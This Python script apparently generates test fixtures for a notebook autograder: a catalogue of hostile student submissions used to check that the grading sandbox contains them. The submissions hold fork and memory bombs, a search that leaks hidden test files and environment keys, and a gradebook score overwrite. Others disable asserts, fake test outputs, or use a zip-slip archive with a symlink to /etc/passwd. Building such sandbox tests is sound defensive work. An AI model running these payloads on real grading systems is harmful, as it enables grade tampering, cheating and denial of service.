"""Write the catalogue of hostile and malformed submissions of the toy lab.

Run ``python tests/grader/files/make_hostile.py`` after changing the toy lab; the output in
``hostile/`` is committed. Each case is a folder holding what one student uploads (the
notebook and any extra files); ``zip-slip.zip`` is an LMS download. Cases start from the
perfect answers, so a contained attack still earns 4 automatic points.
"""

from __future__ import annotations

import copy
import json
import shutil
import stat
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path

import nbformat
from nbformat import NotebookNode

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

from toy_submissions import LAB, SubmissionKind, make_submission  # noqa: E402

from grader.course import Course  # noqa: E402
from grader.release import release  # noqa: E402

OUT = HERE / "hostile"
NOTEBOOK = f"{LAB}.ipynb"
WRONG_ADD = "def add(a, b):\n    return a - b"


def cell(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    return next(
        c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id
    )


def append(grade_id: str, code: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        cell(notebook, grade_id).source += "\n" + code

    return change


def replace(grade_id: str, code: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        cell(notebook, grade_id).source = code

    return change


def chain(*changes: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        for step in changes:
            step(notebook)

    return change


INPUT_TRANSFORMER = "get_ipython().input_transformers_cleanup.append(lambda lines: [])"
AST_TRANSFORMER = """import ast

class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(DropAsserts())"""
ALWAYS_EQUAL = """class AlwaysEqual(int):
    def __eq__(self, other):
        return True

def add(a, b):
    return AlwaysEqual(0)"""
FORK_LOOP = """import os, time
children = 0
try:
    for _ in range(400):
        if os.fork() == 0:
            try:
                time.sleep(300)
            finally:
                os._exit(0)
        children += 1
except OSError as error:
    print("fork stopped:", type(error).__name__)
print("children started:", children)"""
READ_HIDDEN = r"""import os, time
found = []
start = time.time()
roots = ["/tmp", "/root", "/home", "/work", "/srv", "/opt", "/var", os.path.expanduser("~")]
here = os.getcwd()
for _ in range(6):
    roots.append(here)
    here = os.path.dirname(here)
for root in roots:
    for folder, dirs, files in os.walk(root):
        if time.time() - start > 4:
            break
        for name in files:
            if name.endswith((".ipynb", ".db", ".json")):
                path = os.path.join(folder, name)
                try:
                    with open(path, "rb") as handle:
                        if b"add(10, 32)" in handle.read(5_000_000):
                            found.append(path)
                except OSError:
                    pass
for path in sorted(set(found)):
    print("LEAKED", path)
print("search done, environment keys:", sorted(os.environ))"""
WRITE_GRADEBOOK = """import glob, os, sqlite3
written = 0
patterns = [
    "../../../gradebook.db",
    "/tmp/**/gradebook.db",
    "/work/**/gradebook.db",
    "/root/**/gradebook.db",
]
for pattern in patterns:
    for path in glob.glob(pattern, recursive=True):
        try:
            db = sqlite3.connect(path)
            db.execute("UPDATE grade SET manual_score = 99")
            db.commit()
            written += 1
        except Exception as error:
            print("write failed", path, error)
print("gradebooks written:", written)"""
DETACHED = """import subprocess, sys
token = "sagelab-detached-marker-7f3"
sleeper = [sys.executable, "-c", "import time; time.sleep(120)", token]
subprocess.Popen(sleeper, start_new_session=True)
daemon = ["/bin/sh", "-c", f"(sleep 120 & ) ; exec sleep 120 # {token}"]
subprocess.Popen(daemon, start_new_session=True)
print("started")"""
NETWORK = """import socket
try:
    port = int(open("port.txt").read())
    connection = socket.create_connection(("127.0.0.1", port), timeout=2)
    connection.sendall(b"stolen")
    print("CONNECTED")
except OSError as error:
    print("blocked:", type(error).__name__, error)"""
LOCAL_SERVER = """import socket, threading
server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen()
threading.Thread(target=lambda: server.accept()[0].sendall(b"pong"), daemon=True).start()
with socket.create_connection(server.getsockname(), timeout=2) as client:
    print("LOOPBACK", client.recv(4).decode())
server.close()"""
HUGE_OUTPUT = """import sys
chunk = "x" * (1024 * 1024 - 1) + "\\n"
for _ in range(100):
    sys.stdout.write(chunk)
    sys.stdout.flush()"""
BIG_FILE = """try:
    with open("big.bin", "wb") as handle:
        for _ in range(100):
            handle.write(b"\\0" * (1024 * 1024))
except OSError as error:
    print("write stopped:", error)"""
SIGINT_LOOP = """import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    time.sleep(0.05)"""
SHOWTRACEBACK = """from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.showtraceback = lambda *args, **kwargs: None
InteractiveShell.set_custom_exc = lambda *args, **kwargs: None"""


def strip_metadata(notebook: NotebookNode) -> None:
    for each in notebook.cells:
        each.metadata = {}


def duplicate_cells(notebook: NotebookNode) -> None:
    test = copy.deepcopy(cell(notebook, "test_add"))
    answer = copy.deepcopy(cell(notebook, "add_answer"))
    test["id"] = "copy-of-test"
    answer["id"] = "copy-of-answer"
    answer.source = "# scratch copy\n" + answer.source
    notebook.cells.insert(5, test)
    notebook.cells.insert(3, answer)


def delete_test(notebook: NotebookNode) -> None:
    notebook.cells.remove(cell(notebook, "test_add"))


def schema_four(notebook: NotebookNode) -> None:
    cell(notebook, "test_add").metadata["nbgrader"]["schema_version"] = 4


def points_hundred(notebook: NotebookNode) -> None:
    cell(notebook, "test_add").metadata["nbgrader"]["points"] = 100


def markdown_test(notebook: NotebookNode) -> None:
    test = cell(notebook, "test_add")
    test.cell_type = "markdown"
    test.pop("outputs", None)
    test.pop("execution_count", None)


def fake_outputs(notebook: NotebookNode) -> None:
    for grade_id in ("test_add", "test_means"):
        cell(notebook, grade_id).outputs = [
            nbformat.v4.new_output("stream", name="stdout", text="all tests passed\n")
        ]


# name -> change applied to the perfect submission
NOTEBOOK_CASES: dict[str, Callable[[NotebookNode], None]] = {
    "infinite-loop": append("add_answer", "while True:\n    pass"),
    "sigint-ignored-loop": append("means_answer", SIGINT_LOOP),
    "memory-bomb": append("add_answer", "blob = bytearray(8 * 1024 ** 3)"),
    "fork-bomb": append("means_answer", FORK_LOOP),
    "os-exit": append("add_answer", "import os\nos._exit(0)"),
    "sys-exit": replace("add_answer", "import sys\n\ndef add(a, b):\n    sys.exit(0)"),
    "segfault": append("add_answer", "import ctypes\nctypes.string_at(0)"),
    "input-transformer": replace("add_answer", WRONG_ADD + "\n\n" + INPUT_TRANSFORMER),
    "ast-transformer": replace("add_answer", WRONG_ADD + "\n\n" + AST_TRANSFORMER),
    "always-equal": replace("add_answer", ALWAYS_EQUAL),
    "monkeypatch-numpy": replace(
        "means_answer",
        "def column_means(rows):\n    return np.zeros(2)\n\n"
        "np.testing.assert_allclose = lambda *a, **k: None",
    ),
    "monkeypatch-pandas": append(
        "means_answer", "import pandas\npandas.testing.assert_frame_equal = lambda *a, **k: None"
    ),
    "read-hidden-tests": append("means_answer", READ_HIDDEN),
    "write-gradebook": append("means_answer", WRITE_GRADEBOOK),
    "detached-process": append("means_answer", DETACHED),
    "network": append("means_answer", NETWORK),
    "local-server": append("means_answer", LOCAL_SERVER),
    "huge-output": append("add_answer", HUGE_OUTPUT),
    "big-file": append("add_answer", BIG_FILE),
    "showtraceback": replace("add_answer", WRONG_ADD + "\n\n" + SHOWTRACEBACK),
    "duplicate-grade-ids": duplicate_cells,
    "edited-test-cell": chain(replace("add_answer", WRONG_ADD), replace("test_add", "pass")),
    "deleted-test-cell": chain(replace("add_answer", WRONG_ADD), delete_test),
    "stripped-metadata": strip_metadata,
    "schema-version-4": schema_four,
    "points-changed": points_hundred,
    "cell-type-changed": chain(replace("add_answer", WRONG_ADD), markdown_test),
    "fake-outputs": chain(
        replace("add_answer", WRONG_ADD),
        replace("means_answer", "def column_means(rows):\n    return None"),
        fake_outputs,
    ),
}


def write_case(name: str, notebook: NotebookNode, file_name: str = NOTEBOOK) -> Path:
    folder = OUT / name
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / file_name)
    return folder


def main() -> None:
    if OUT.exists():
        shutil.rmtree(OUT)
    OUT.mkdir()
    with tempfile.TemporaryDirectory() as scratch:
        shutil.copytree(HERE / "labs", Path(scratch) / "labs")
        course = Course.open(Path(scratch) / "course", Path(scratch) / "labs")
        release(course, LAB)
        released = nbformat.read(course.release_notebook(LAB), as_version=4)
    perfect = make_submission(released, SubmissionKind.PERFECT)

    for name, change in NOTEBOOK_CASES.items():
        notebook = copy.deepcopy(perfect)
        change(notebook)
        write_case(name, notebook)

    write_case("renamed-notebook", perfect, f"{LAB} (1).ipynb")
    shadow = write_case("shadowing-module", perfect)
    (shadow / "numpy.py").write_text("def testing():\n    pass\n", encoding="utf-8")
    (shadow / "helper_shadow.py").write_text("SHADOW = True\n", encoding="utf-8")

    text = nbformat.writes(perfect)
    (OUT / "invalid-json").mkdir()
    (OUT / "invalid-json" / NOTEBOOK).write_text(text[: len(text) // 2], encoding="utf-8")
    (OUT / "not-a-notebook").mkdir()
    (OUT / "not-a-notebook" / NOTEBOOK).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4)
    (OUT / "nbformat-5").mkdir()
    future = json.loads(text)
    future["nbformat"] = 5
    (OUT / "nbformat-5" / NOTEBOOK).write_text(json.dumps(future), encoding="utf-8")
    (OUT / "nbformat-3").mkdir()
    old = nbformat.convert(copy.deepcopy(perfect), 3)
    (OUT / "nbformat-3" / NOTEBOOK).write_text(nbformat.writes(old, version=3), encoding="utf-8")
    write_zip_slip(nbformat.writes(perfect))


def write_zip_slip(text: str) -> None:
    """An LMS download with a valid upload, a zip-slip entry and a symbolic link."""
    uploaded = (2026, 1, 15, 10, 0, 0)
    with zipfile.ZipFile(OUT / "zip-slip.zip", "w") as bundle:
        for name in (
            f"doejane_4242_9001_{NOTEBOOK}",
            f"../../evil_4343_9002_{NOTEBOOK}",
            f"/tmp/absolute_4444_9003_{NOTEBOOK}",
        ):
            bundle.writestr(zipfile.ZipInfo(name, uploaded), text)
        link = zipfile.ZipInfo(f"linker_4545_9004_{NOTEBOOK}", uploaded)
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        bundle.writestr(link, "/etc/passwd")


if __name__ == "__main__":
    main()
